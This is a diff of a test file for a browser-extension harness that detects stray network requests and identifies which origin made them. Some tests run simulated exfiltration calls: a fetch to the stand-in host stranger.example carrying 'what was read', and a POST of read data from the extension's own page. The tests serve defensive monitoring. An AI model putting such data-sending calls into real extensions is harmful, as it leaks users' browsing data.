@@ -16,7 +16,11 @@ describe('the harness of the journeys', () => {
     session = await launchChromium({ roots: [root] });
   });
   afterAll(async () => {
-    await expect(session.close()).rejects.toThrow('Requests went to stranger.example');
+    // The proxy's word, then the browser's own, which knows who asked.
+    const own = `chrome-extension://${session.extensionId}`;
+    await expect(session.close()).rejects.toThrow(
+      `Requests went to stranger.example, stranger.example (asked by https://www.kl.dk), POST www.kl.dk (asked by ${own})`,
+    );
     rmSync(root, { recursive: true });
   });
 
@@ -34,6 +38,11 @@ describe('the harness of the journeys', () => {
     const page = await session.open('https://www.kl.dk/');
     await page.evaluate(() => fetch('https://stranger.example/?what=was+read').catch(() => null));
     expect(strayRequests(session.seen)).toEqual(['stranger.example']);
+  });
+
+  it('sees when the extension itself sends anything, were it to a site it may read', async () => {
+    const page = await session.openOwn('reader.html');
+    await page.evaluate(() => fetch('https://www.kl.dk/', { method: 'POST', body: 'what was read' }));
   });
 
   it('excuses only hosts that the build does not name', () => {
